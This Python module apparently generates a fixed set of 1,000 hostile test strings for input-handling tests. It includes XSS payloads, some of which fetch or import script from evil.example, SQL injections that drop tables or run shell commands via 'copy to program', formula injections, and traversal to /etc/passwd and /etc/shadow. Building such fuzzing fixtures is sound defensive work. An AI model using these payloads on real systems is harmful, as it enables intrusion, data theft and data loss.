"""A thousand hostile strings (issue: FAULTS D), the same in every run."""

import random
from collections.abc import Iterator
from itertools import islice

_TAGS = (
    "<script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg/onload={}>',
    "'><body onpageshow={}>",
    "</title><script>{}</script>",
    "<a href='javascript:{}'>x</a>",
    "<iframe srcdoc='<script>{}</script>'>",
    "<div hx-get=/healthz hx-trigger=load hx-on::load={}>",
    "<details open ontoggle={}>",
    "--><script>{}</script><!--",
    "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    "<input autofocus onfocus={}>",
    "<video><source onerror={}>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "&lt;script&gt;{}&lt;/script&gt;",
    "＜script＞{}＜/script＞",
    "{{{{ {} }}}}{{% raw %}}",
    "</textarea><script>{}</script>",
    '"autofocus onfocus="{}" x="',
    "<link rel=prefetch href=http://evil.example/{}>",
)
_CALLS = ("alert(1)", "fetch('http://evil.example/b')", "confirm`1`", "import('//evil.example/m.js')", "prompt(7)")
_SQL = (
    "'; drop table leads; --{}",
    "' or {}={} --",
    '" union select password_hash from users --{}',
    "\\'; truncate audit; --{}",
    "%s %(x)s {{x}} :x ${} ",
    "1); copy users to program 'touch /tmp/x{}'; --",
)
_FORMULAS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "'=")
_CELLS = ("1+1", "cmd|'/c calc'!A1", 'HYPERLINK("http://evil.example","x")')
_PATHS = (
    "../../../../etc/passwd{}",
    "..\\..\\windows\\win.ini{}",
    "/etc/passwd%00{}.png",
    "%2e%2e%2f%2e%2e%2fetc/shadow{}",
    "file:///etc/passwd?{}",
    "....//....//{}",
    "\\\\evil.example\\share{}",
    "C:\\con{}",
)
_CONTROL = (
    *(chr(code) for code in range(0x20)),
    *(chr(code) for code in range(0x7F, 0xA0)),
    *"\u00ad\u034f\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2028\u2029\u2060\u2066\u2067",
    *"\u2068\u2069\ufeff\ufffe\uffff\ufdd0\ud800\udfff",
)


def strings() -> list[str]:
    """XSS 100, SQL 60, formulas 30, traversal 40, controls and reading directions 200, random 570: no two alike."""
    made = [tag.format(call) for tag in _TAGS for call in _CALLS]
    made += [each.format(*[number] * 2) for each in _SQL for number in range(10)]
    made += [sign + cell for sign in _FORMULAS for cell in _CELLS]
    made += [each.format(number) for each in _PATHS for number in range(5)]
    made += [f"象{one}牙{number}" for number in range(3) for one in _CONTROL][:150]
    made += [f"{one * 3}象牙{one}" for one in _CONTROL][:50]
    made += islice(_random(), 1000 - len(made))
    assert len(made) == len(set(made)) == 1000
    return made


def sample() -> list[str]:
    """One in fifty."""
    return strings()[::50]


def _random() -> Iterator[str]:
    dice = random.Random(20261129)
    planes = (
        (0x20, 0x7E),
        (0, 0xFF),
        (0x300, 0x36F),
        (0x600, 0x6FF),
        (0x2000, 0x206F),
        (0x4E00, 0x9FFF),
        (0xD7F0, 0xE010),
    )
    planes += ((0xFE00, 0xFFFF), (0x1F300, 0x1FAFF), (0xE0000, 0xE01EF), (0x10FFF0, 0x10FFFF))
    while True:
        yield "".join(chr(dice.randint(*dice.choice(planes))) for _ in range(dice.randint(1, 60)))
